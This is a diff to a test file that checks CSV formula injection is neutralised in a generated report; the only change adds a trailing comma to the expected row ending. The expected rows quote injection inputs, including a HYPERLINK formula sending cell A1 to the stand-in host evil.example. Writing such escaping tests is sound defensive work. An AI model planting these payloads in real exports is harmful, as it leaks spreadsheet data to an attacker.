@@ -32,7 +32,7 @@ describe('defect 14: CSV formula injection in the report', () => {
     expect(rows).toHaveLength(5);
     // The prompt is the second column; the first is a plain file name.
     // After the prompt: state, then empty reason/code/provider/request/actual cost, the estimate.
-    const tail = `,queued,,,,,,${items[0]!.estimatedCostUsd},`;
+    const tail = `,queued,,,,,,${items[0]!.estimatedCostUsd},,`;
     expect(rows[0]).toBe(`img-0000.png,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"${tail}`);
     expect(rows[1]).toBe(`img-0001.png,'+1+1${tail}`);
     expect(rows[2]).toBe(`img-0002.png,'-2+3${tail}`);
